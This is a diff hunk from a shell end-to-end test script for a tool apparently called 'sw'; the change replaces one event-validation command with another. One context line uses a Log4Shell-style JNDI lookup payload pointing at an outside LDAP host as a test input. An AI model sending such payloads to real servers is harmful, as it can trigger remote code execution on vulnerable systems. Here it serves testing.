@@ -201,7 +201,7 @@ new_self
 check "the next load brings them back" not ask "$source4" '/?x=${jndi:ldap://198.51.100.9/a}'
 sw detach --all -q
 events_are_valid() {
-	sw events --json | python3 "$top/tests/e2e/valid_events.py"
+	sw events --json | "$top/tests/e2e/valid_json.py" events
 }
 check "its events are those of docs/schema.json" events_are_valid
 
